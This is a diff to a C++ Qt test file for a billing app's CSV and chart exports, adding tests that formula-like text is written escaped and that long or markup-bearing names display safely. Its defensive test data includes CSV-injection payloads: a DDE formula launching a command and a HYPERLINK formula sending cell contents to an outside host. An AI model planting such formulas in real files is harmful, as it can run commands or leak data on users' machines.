@@ -6,6 +6,8 @@
 #include <libical/ical.h>
 #include <sqlite3.h>
 
+#include <QBarCategoryAxis>
+#include <QBarSet>
 #include <QChartView>
 #include <QCheckBox>
 #include <QComboBox>
@@ -15,8 +17,12 @@
 #include <QElapsedTimer>
 #include <QFile>
 #include <QFileInfo>
+#include <QFontMetrics>
+#include <QHorizontalBarSeries>
 #include <QLabel>
+#include <QLegendMarker>
 #include <QPieSeries>
+#include <QPieSlice>
 #include <QProcess>
 #include <QPushButton>
 #include <QRegularExpression>
@@ -27,6 +33,7 @@
 #include <QTemporaryDir>
 #include <QTextDocument>
 #include <QTimeZone>
+#include <QToolTip>
 #include <QValueAxis>
 #include <ctime>
 #include <memory>
@@ -108,6 +115,13 @@ std::vector<QStringList> readCsv(const QByteArray& bytes) {
     }
     EXPECT_TRUE(field.isEmpty() && record.isEmpty()) << "last record not ended by CR LF";
     return records;
+}
+
+// What a text field reads back as: a spreadsheet would run one that starts
+// like a formula, so the file holds it behind an apostrophe.
+QString asStored(const QString& text) {
+    static const QString formula = QStringLiteral("=+-@\t\r");
+    return !text.isEmpty() && formula.contains(text.front()) ? u'\'' + text : text;
 }
 
 QByteArray readAll(const QString& path) {
@@ -395,9 +409,9 @@ TEST_F(BillingTest, EntriesCsvReadsBackFieldByField) {
         const Entry& e = entries[i];
         const QStringList& r = records[i + 1];
         ASSERT_EQ(r.size(), 11) << i;
-        EXPECT_EQ(r[0], e.user);
-        EXPECT_EQ(r[1], e.activity);
-        EXPECT_EQ(r[2], e.client);
+        EXPECT_EQ(r[0], asStored(e.user));
+        EXPECT_EQ(r[1], asStored(e.activity));
+        EXPECT_EQ(r[2], asStored(e.client));
         // ISO 8601 with the zone's offset: the same instant as the local time.
         EXPECT_EQ(QDateTime::fromString(r[3], Qt::ISODate),
                   QDateTime(e.start.date(), e.start.time()));
@@ -410,8 +424,77 @@ TEST_F(BillingTest, EntriesCsvReadsBackFieldByField) {
         EXPECT_EQ(r[8], hmsText(e.duration));
         EXPECT_EQ(QString(r[9]).replace(',', '.').toDouble(),
                   std::round(e.duration / 36.0) / 100.0);
-        EXPECT_EQ(r[10], e.comment) << i;
+        EXPECT_EQ(r[10], asStored(e.comment)) << i;
     }
+}
+
+// Names and comments someone else may have typed, starting with each
+// character a spreadsheet reads as a formula: both exports write them as
+// text (apostrophe first, quoted); the program's own figures stay numbers.
+TEST_F(BillingTest, TextsThatLookLikeFormulasAreWrittenAsText) {
+    const QStringList formulas{"=1+1",
+                               "=HYPERLINK(\"http://x.example/?\"&A1,\"y\")",
+                               "=cmd|' /C calc'!A0",
+                               "+33 6 12",
+                               "-2+3",
+                               "@SUM(1+1)",
+                               "\t=1+1",
+                               "\r=1+1",
+                               "\r\n=1+1"};
+    db.exec("DELETE FROM activites");
+    for (qsizetype i = 0; i < formulas.size(); ++i) {
+        auto q = [](QString s) { return "'" + s.replace("'", "''") + "'"; };
+        db.exec(QString("INSERT INTO activites (\"USER\", SURVEILLANCES, CLIENTS, DEBUT, FIN, "
+                        "DUREE, COMMENTAIRE) VALUES (%1, %1, %1, '2026-03-%2 08:00:00', "
+                        "'2026-03-%2 08:10:00', 600, %1)")
+                    .arg(q(formulas[i]))
+                    .arg(10 + i));
+    }
+    view();
+    const auto isNumber = QRegularExpression("^\\d+(,\\d+)?$");
+    const auto isHms = QRegularExpression("^\\d+:\\d\\d:\\d\\d$");
+
+    const auto rows = readCsv(readAll(exported(Export::EntriesCsv, "entrees.csv")));
+    ASSERT_EQ(rows.size(), formulas.size() + 1);
+    for (qsizetype i = 0; i < formulas.size(); ++i) {
+        const QStringList& r = rows[i + 1];
+        ASSERT_EQ(r.size(), 11);
+        for (int text : {0, 1, 2, 10}) EXPECT_EQ(r[text], "'" + formulas[i]) << i << " " << text;
+        EXPECT_EQ(r[7], "600");
+        EXPECT_EQ(r[8], "00:10:00");
+        EXPECT_EQ(r[9], "0,17");
+    }
+
+    // The summary by client, and by activity with rounding on.
+    for (const auto& [grouping, rounding] :
+         {std::pair{Grouping::Client, ""}, std::pair{Grouping::Activity, "15 haut"}}) {
+        billing->summaryView()->GroupingBox->setCurrentIndex(int(grouping));
+        billing->summaryView()->RoundingBox->setCurrentIndex(
+            billing->summaryView()->RoundingBox->findData(rounding));
+        waitTotals();
+        const auto sums = readCsv(readAll(exported(Export::SummaryCsv, "synthese.csv")));
+        ASSERT_EQ(sums.size(), formulas.size() + 2);
+        QStringList keys;
+        for (size_t i = 1; i + 1 < sums.size(); ++i) {
+            keys << sums[i][0];
+            for (qsizetype f = 1; f < sums[i].size(); ++f)
+                EXPECT_TRUE(isNumber.match(sums[i][f]).hasMatch() ||
+                            isHms.match(sums[i][f]).hasMatch())
+                    << sums[i][f].toStdString();
+        }
+        QStringList expected;
+        for (const QString& f : formulas) expected << "'" + f;
+        keys.sort();
+        expected.sort();
+        EXPECT_EQ(keys, expected);
+        EXPECT_EQ(sums.back()[2], "5400");
+    }
+
+    // A figure is written as it is, even negative; the same text is not.
+    CsvWriter csv;
+    csv.record(
+        {CsvWriter::Field("-1,50"), CsvWriter::figure("-1,50"), CsvWriter::figure("-0:30:00")});
+    EXPECT_EQ(readCsv(csv.take()), (std::vector<QStringList>{{"'-1,50", "-1,50", "-0:30:00"}}));
 }
 
 TEST_F(BillingTest, SummaryCsvHoldsEachLineAndTheTotal) {
@@ -717,6 +800,52 @@ TEST_F(BillingTest, TheHourAxisLabelsEachTickDifferently) {
     }
     EXPECT_EQ(QSet<QString>(labels.begin(), labels.end()).size(), labels.size())
         << labels.join(" | ").toStdString();
+}
+
+// Long names at the window's size: each label keeps its figure and a name
+// shortened with "…"; the full name is in the tooltip of its bar, slice and
+// legend entry, and in the charts' descriptions.
+TEST_F(BillingTest, LongNamesInTheChartsKeepTheirFigureAndTellTheFullName) {
+    const QString longName = "Garage Tremblay et fils, carrosserie générale de la Haute-Ville";
+    addBatch(longName, 450);  // 7,5 h
+    form->cbClients->setEditText(longName);
+    view();
+    billing->ChartsButton->click();
+    ChartsView* c = billing->chartsView();
+    auto* names = qobject_cast<QBarCategoryAxis*>(c->Bars->chart()->axes(Qt::Vertical)[0]);
+    ASSERT_NE(names, nullptr);
+    ASSERT_EQ(names->categories().size(), 1);
+    const QString label = names->categories()[0];
+    EXPECT_TRUE(label.endsWith("<br>7,50 h")) << label.toStdString();
+    EXPECT_TRUE(label.contains(u'…'));
+    EXPECT_LE(QFontMetrics(names->labelsFont()).horizontalAdvance(label.section("<br>", 0, 0)),
+              ChartsView::kNameWidth);
+    EXPECT_TRUE(c->Bars->accessibleDescription().contains(longName));
+    EXPECT_TRUE(c->Pie->accessibleDescription().contains(longName));
+
+    const QString full = longName + " — 7,50 h";
+    auto* set = qobject_cast<QAbstractBarSeries*>(c->Bars->chart()->series()[0])->barSets()[0];
+    emit set->hovered(true, 0);
+    EXPECT_EQ(QToolTip::text(), full);
+    emit set->hovered(false, 0);
+    auto* pie = qobject_cast<QPieSeries*>(c->Pie->chart()->series()[0]);
+    ASSERT_EQ(pie->count(), 1);
+    EXPECT_TRUE(pie->slices()[0]->label().contains(u'…'));
+    EXPECT_TRUE(pie->slices()[0]->label().endsWith("<br>100,0 %"));
+    emit pie->slices()[0]->hovered(true);
+    EXPECT_EQ(QToolTip::text(), longName + " (100,0 %)");
+    emit pie->slices()[0]->hovered(false);
+    const auto markers = c->Pie->chart()->legend()->markers(pie);
+    ASSERT_EQ(markers.size(), 1);
+    emit markers[0]->hovered(true);
+    EXPECT_EQ(QToolTip::text(), longName + " (100,0 %)");
+    // Names are text, not markup.
+    addBatch("<b>A & B</b>", 60);
+    form->cbClients->setEditText("Tous");
+    view();
+    names = qobject_cast<QBarCategoryAxis*>(c->Bars->chart()->axes(Qt::Vertical)[0]);
+    EXPECT_TRUE(names->categories().filter("&lt;b&gt;A &amp; B&lt;/b&gt;<br>").size() == 1)
+        << names->categories().join(" | ").toStdString();
 }
 
 }  // namespace
